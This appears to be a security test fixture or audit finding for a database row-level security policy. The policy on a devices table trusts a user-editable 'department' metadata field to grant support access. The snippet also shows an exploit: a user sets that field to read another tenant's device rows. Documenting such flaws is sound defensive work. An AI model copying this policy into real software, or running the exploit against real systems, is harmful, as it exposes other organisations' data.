-- channel: claims
-- object: public.devices
-- says: Support staff are recognised by a name users choose for themselves.
create policy devices_support on public.devices for select to authenticated
using ((select auth.jwt()) -> 'user_metadata' ->> 'department' = 'support');
-- exploit as mallory with {"user_metadata": {"department": "support"}}
select from public.devices where tenant_id = :org_b;
-- leaks when rows
